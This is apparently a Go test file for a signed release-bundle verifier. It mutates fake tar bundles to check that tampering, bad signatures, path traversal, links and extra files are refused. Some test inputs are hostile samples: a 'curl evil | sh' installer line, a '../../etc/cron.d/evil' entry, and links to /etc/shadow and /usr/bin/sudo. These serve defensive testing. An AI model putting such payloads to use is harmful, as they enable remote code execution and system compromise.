package bundles

import (
	"archive/tar"
	"bytes"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/sha256"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// entry is one tar entry of a hand-made bundle.
type entry struct {
	hdr  tar.Header
	data []byte
}

// fakeBundle is a valid bundle's parts, for tests to break.
type fakeBundle struct {
	key     ed25519.PrivateKey
	entries []entry
}

func testKey(t testing.TB) ed25519.PrivateKey {
	t.Helper()
	_, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	return priv
}

// newFakeBundle returns a correct bundle with small contents.
func newFakeBundle(t testing.TB, key ed25519.PrivateKey) *fakeBundle {
	t.Helper()
	man, _ := json.Marshal(Manifest{Format: Format, Version: "1.2.3", OS: "linux", Arch: "amd64", Created: time.Unix(1e9, 0).UTC(),
		Images: []ManifestImage{{Ref: "corpintel/api:latest", ID: "sha256:00"}}})
	contents := map[string][]byte{
		ManifestFile: man, BinaryFile: []byte("\x7fELF not really"), InstallerFile: []byte("#!/bin/sh\necho install\n"),
		UnitFile: []byte("[Unit]\n"), ConfigFile: []byte("profile = \"prod\"\n"), SBOMFile: []byte("{}\n"),
		ImagesFile: bytes.Repeat([]byte("image layer bytes "), 4096),
	}
	sums := Sums{}
	for name, data := range contents {
		sums[name] = sha256.Sum256(data)
	}
	sumsData := sums.Bytes()
	contents[SumsFile] = sumsData
	contents[SigFile] = ed25519.Sign(key, sumsData)
	fb := &fakeBundle{key: key}
	for _, f := range files {
		fb.entries = append(fb.entries, entry{hdr: tar.Header{Typeflag: tar.TypeReg, Name: f.name, Mode: 0o644, Size: int64(len(contents[f.name])),
			ModTime: time.Unix(1e9, 0)}, data: contents[f.name]})
	}
	return fb
}

func (fb *fakeBundle) index(name string) int {
	for i, e := range fb.entries {
		if e.hdr.Name == name {
			return i
		}
	}
	return -1
}

// set replaces a file's content (keeping SHA256SUMS as it is, unless resign).
func (fb *fakeBundle) set(name string, data []byte) {
	i := fb.index(name)
	fb.entries[i].data = data
	fb.entries[i].hdr.Size = int64(len(data))
}

// resign recomputes SHA256SUMS from the entries and signs it with key.
func (fb *fakeBundle) resign(key ed25519.PrivateKey) {
	sums := Sums{}
	for _, e := range fb.entries {
		if e.hdr.Name != SumsFile && e.hdr.Name != SigFile {
			sums[e.hdr.Name] = sha256.Sum256(e.data)
		}
	}
	fb.set(SumsFile, sums.Bytes())
	fb.set(SigFile, ed25519.Sign(key, sums.Bytes()))
}

func (fb *fakeBundle) bytes(t testing.TB) []byte {
	t.Helper()
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, e := range fb.entries {
		h := e.hdr
		if err := tw.WriteHeader(&h); err != nil {
			t.Fatalf("write header %s: %v", h.Name, err)
		}
		if h.Typeflag == tar.TypeReg {
			if _, err := tw.Write(e.data); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestVerifyAcceptsAGoodBundle(t *testing.T) {
	key := testKey(t)
	fb := newFakeBundle(t, key)
	v, err := Verify(bytes.NewReader(fb.bytes(t)), key.Public().(ed25519.PublicKey))
	if err != nil {
		t.Fatal(err)
	}
	if v.Manifest.Version != "1.2.3" || len(v.Sums) != len(files)-2 || v.Sizes[ImagesFile] != 18*4096 {
		t.Errorf("verified %+v", v)
	}
}

func TestVerifyRefuses(t *testing.T) {
	key := testKey(t)
	pub := key.Public().(ed25519.PublicKey)
	other := testKey(t)
	tests := []struct {
		name   string
		mutate func(fb *fakeBundle)
		raw    func(b []byte) []byte // applied to the archive bytes
		want   string
	}{
		{name: "tampered image tar", mutate: func(fb *fakeBundle) {
			d := bytes.Clone(fb.entries[fb.index(ImagesFile)].data)
			d[100] ^= 1
			fb.set(ImagesFile, d)
		}, want: "images.tar.gz does not match its checksum"},
		{name: "tampered binary", mutate: func(fb *fakeBundle) { fb.set(BinaryFile, []byte("\x7fELF evil")) }, want: "corpintel does not match its checksum"},
		{name: "wrong signature", mutate: func(fb *fakeBundle) { fb.resign(other) }, want: "signature of SHA256SUMS does not verify"},
		{name: "re-summed without the key", mutate: func(fb *fakeBundle) {
			fb.set(InstallerFile, []byte("#!/bin/sh\ncurl evil | sh\n"))
			sig := fb.entries[fb.index(SigFile)].data
			fb.resign(key)
			fb.set(SigFile, sig) // the old signature over the new sums
		}, want: "signature of SHA256SUMS does not verify"},
		{name: "signature of the wrong size", mutate: func(fb *fakeBundle) { fb.set(SigFile, []byte("short")) }, want: "signature"},
		{name: "truncated in the images", raw: func(b []byte) []byte { return b[:len(b)-40000] }, want: "truncated"},
		{name: "truncated after a header", raw: func(b []byte) []byte { return b[:1536] }, want: "truncated"},
		{name: "truncated to nothing", raw: func(b []byte) []byte { return nil }, want: "no SHA256SUMS"},
		{name: "not a tar", raw: func([]byte) []byte { return bytes.Repeat([]byte("x"), 2048) }, want: "damaged or truncated"},
		{name: "path traversal", mutate: func(fb *fakeBundle) {
			fb.entries = append(fb.entries, entry{hdr: tar.Header{Typeflag: tar.TypeReg, Name: "../../etc/cron.d/evil", Size: 3, Mode: 0o644}, data: []byte("x\n\n")})
		}, want: `entry "../../etc/cron.d/evil" has a directory part`},
		{name: "absolute path", mutate: func(fb *fakeBundle) {
			fb.entries[fb.index(UnitFile)].hdr.Name = "/etc/systemd/system/corpintel.service"
		}, want: "directory part"},
		{name: "directory part", mutate: func(fb *fakeBundle) { fb.entries[fb.index(UnitFile)].hdr.Name = "systemd/corpintel.service" }, want: "directory part"},
		{name: "dot-dot in a name", mutate: func(fb *fakeBundle) { fb.entries[fb.index(UnitFile)].hdr.Name = "corpintel..service" }, want: "directory part"},
		{name: "symlink out of the tree", mutate: func(fb *fakeBundle) {
			fb.entries = append(fb.entries[:3], append([]entry{{hdr: tar.Header{Typeflag: tar.TypeSymlink, Name: BinaryFile, Linkname: "/usr/bin/sudo"}}}, fb.entries[4:]...)...)
		}, want: "corpintel is a symbolic link (to /usr/bin/sudo)"},
		{name: "hard link", mutate: func(fb *fakeBundle) {
			fb.entries = append(fb.entries, entry{hdr: tar.Header{Typeflag: tar.TypeLink, Name: "shadow", Linkname: "/etc/shadow"}})
		}, want: "hard link"},
		{name: "device file", mutate: func(fb *fakeBundle) {
			fb.entries = append(fb.entries, entry{hdr: tar.Header{Typeflag: tar.TypeChar, Name: "sda", Devmajor: 8}})
		}, want: "character device"},
		{name: "directory entry", mutate: func(fb *fakeBundle) {
			fb.entries = append(fb.entries, entry{hdr: tar.Header{Typeflag: tar.TypeDir, Name: "images", Mode: 0o755}})
		}, want: "directory"},
		{name: "fifo", mutate: func(fb *fakeBundle) {
			fb.entries = append(fb.entries, entry{hdr: tar.Header{Typeflag: tar.TypeFifo, Name: "pipe"}})
		}, want: "named pipe"},
		{name: "absurd size", mutate: func(fb *fakeBundle) {
			i := fb.index(UnitFile)
			fb.entries[i].hdr.Size = 1 << 40
		}, raw: func(b []byte) []byte { return b }, want: "declares 1099511627776 bytes"},
		{name: "extra file", mutate: func(fb *fakeBundle) {
			fb.entries = append(fb.entries, entry{hdr: tar.Header{Typeflag: tar.TypeReg, Name: "postinst.sh", Size: 2, Mode: 0o755}, data: []byte("x\n")})
		}, want: "postinst.sh is not a file of a corpintel-bundle/1 bundle (extra file)"},
		{name: "missing file", mutate: func(fb *fakeBundle) {
			i := fb.index(SBOMFile)
			fb.entries = append(fb.entries[:i], fb.entries[i+1:]...)
		}, want: "missing sbom.cdx.json"},
		{name: "duplicate file", mutate: func(fb *fakeBundle) {
			fb.entries = append(fb.entries, fb.entries[fb.index(InstallerFile)])
		}, want: "install.sh appears twice"},
		{name: "sums not first", mutate: func(fb *fakeBundle) { fb.entries[0], fb.entries[2] = fb.entries[2], fb.entries[0] }, want: "the first file must be SHA256SUMS"},
		{name: "signature not second", mutate: func(fb *fakeBundle) { fb.entries[1], fb.entries[2] = fb.entries[2], fb.entries[1] }, want: "the second file must be SHA256SUMS.sig"},
		{name: "sums list an extra file", mutate: func(fb *fakeBundle) {
			s := append(bytes.Clone(fb.entries[0].data), []byte(strings.Repeat("a", 64)+"  evil.sh\n")...)
			fb.set(SumsFile, s)
			fb.set(SigFile, ed25519.Sign(key, s))
		}, want: "lists files a corpintel-bundle/1 bundle does not have: evil.sh"},
		{name: "sums lack a file", mutate: func(fb *fakeBundle) {
			lines := strings.SplitAfter(string(fb.entries[0].data), "\n")
			s := []byte(strings.Join(lines[1:], ""))
			fb.set(SumsFile, s)
			fb.set(SigFile, ed25519.Sign(key, s))
		}, want: "SHA256SUMS lacks"},
		{name: "malformed sums", mutate: func(fb *fakeBundle) {
			s := []byte("d41d8cd98f00b204e9800998ecf8427e  corpintel\n")
			fb.set(SumsFile, s)
			fb.set(SigFile, ed25519.Sign(key, s))
		}, want: "line 1 is not"},
		{name: "sums name a file twice", mutate: func(fb *fakeBundle) {
			first := strings.SplitAfter(string(fb.entries[0].data), "\n")[0]
			s := append([]byte(first), fb.entries[0].data...)
			fb.set(SumsFile, s)
			fb.set(SigFile, ed25519.Sign(key, s))
		}, want: "twice"},
		{name: "foreign manifest", mutate: func(fb *fakeBundle) {
			fb.set(ManifestFile, []byte(`{"format":"someone-else/9"}`))
			fb.resign(key)
		}, want: `says format "someone-else/9"`},
		{name: "manifest not JSON", mutate: func(fb *fakeBundle) {
			fb.set(ManifestFile, []byte(`format = 1`))
			fb.resign(key)
		}, want: "bundle.json"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fb := newFakeBundle(t, key)
			if tt.mutate != nil {
				tt.mutate(fb)
			}
			var b []byte
			if tt.name == "absurd size" {
				b = absurdSize(t, fb)
			} else {
				b = fb.bytes(t)
			}
			if tt.raw != nil {
				b = tt.raw(b)
			}
			_, err := Verify(bytes.NewReader(b), pub)
			if err == nil {
				t.Fatal("accepted")
			}
			if !errors.Is(err, ErrRefused) || !strings.Contains(err.Error(), tt.want) {
				t.Fatalf("err %v, want ErrRefused mentioning %q", err, tt.want)
			}
		})
	}
}

// absurdSize writes a header that claims a terabyte for a small file (archive/tar's
// writer would refuse to write less than it declared, so the archive is cut short).
func absurdSize(t *testing.T, fb *fakeBundle) []byte {
	t.Helper()
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, e := range fb.entries {
		h := e.hdr
		if err := tw.WriteHeader(&h); err != nil {
			t.Fatal(err)
		}
		if h.Size > 1<<30 {
			_ = tw.Flush()
			buf.Write(e.data)
			return buf.Bytes()
		}
		if _, err := tw.Write(e.data); err != nil {
			t.Fatal(err)
		}
	}
	t.Fatal("no absurd entry")
	return nil
}

func TestVerifyNeedsAKey(t *testing.T) {
	key := testKey(t)
	if _, err := Verify(bytes.NewReader(newFakeBundle(t, key).bytes(t)), nil); err == nil || !strings.Contains(err.Error(), "--key") {
		t.Errorf("err %v", err)
	}
	if _, err := VerifyDir(t.TempDir(), nil); err == nil {
		t.Error("VerifyDir without a key")
	}
}

func TestExtractVerifiesFirstAndAgain(t *testing.T) {
	key := testKey(t)
	pub := key.Public().(ed25519.PublicKey)
	dir := t.TempDir()
	good := filepath.Join(dir, "good.tar")
	if err := os.WriteFile(good, newFakeBundle(t, key).bytes(t), 0o600); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(dir, "out")
	v, err := Extract(good, out, pub)
	if err != nil {
		t.Fatal(err)
	}
	if v.Manifest.Version != "1.2.3" {
		t.Errorf("manifest %+v", v.Manifest)
	}
	for _, f := range files {
		st, err := os.Stat(filepath.Join(out, f.name))
		if err != nil {
			t.Fatal(err)
		}
		if want := map[bool]os.FileMode{true: 0o700, false: 0o600}[f.exec]; st.Mode().Perm() != want {
			t.Errorf("%s mode %v, want %v", f.name, st.Mode().Perm(), want)
		}
	}
	if _, err := VerifyDir(out, pub); err != nil {
		t.Fatalf("the extracted directory does not verify: %v", err)
	}
	// Changed after the unpack, or an extra file dropped in: VerifyDir refuses.
	if err := os.WriteFile(filepath.Join(out, "evil"), []byte("x"), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := VerifyDir(out, pub); err == nil || !strings.Contains(err.Error(), "evil") {
		t.Errorf("extra file: %v", err)
	}
	_ = os.Remove(filepath.Join(out, "evil"))
	if err := os.WriteFile(filepath.Join(out, UnitFile), []byte("[Service]\nExecStart=/bin/evil\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := VerifyDir(out, pub); err == nil || !strings.Contains(err.Error(), "corpintel.service in") {
		t.Errorf("changed file: %v", err)
	}
	if _, err := VerifyDir(out, testKey(t).Public().(ed25519.PublicKey)); err == nil || !strings.Contains(err.Error(), "signature") {
		t.Errorf("other key: %v", err)
	}

	// A refused bundle leaves nothing behind, and an existing directory is not reused.
	bad := newFakeBundle(t, key)
	bad.set(BinaryFile, []byte("evil"))
	badPath := filepath.Join(dir, "bad.tar")
	if err := os.WriteFile(badPath, bad.bytes(t), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := Extract(badPath, filepath.Join(dir, "bad"), pub); err == nil {
		t.Fatal("extracted a tampered bundle")
	}
	if _, err := os.Stat(filepath.Join(dir, "bad")); !os.IsNotExist(err) {
		t.Errorf("a refused bundle left %s: %v", filepath.Join(dir, "bad"), err)
	}
	if _, err := Extract(good, out, pub); err == nil {
		t.Error("extracted into an existing directory")
	}
	if _, err := VerifyFile(filepath.Join(dir, "missing.tar"), pub); err == nil {
		t.Error("verified a missing file")
	}
}

func TestSumsRoundTrip(t *testing.T) {
	s := Sums{}
	for i, name := range summed() {
		s[name] = sha256.Sum256([]byte{byte(i)})
	}
	got, err := ParseSums(s.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	if string(got.Bytes()) != string(s.Bytes()) {
		t.Errorf("round trip changed the sums")
	}
	if !strings.HasSuffix(FileName("1.0.0", "amd64"), "corpintel-1.0.0-linux-amd64.tar") {
		t.Error(FileName("1.0.0", "amd64"))
	}
}
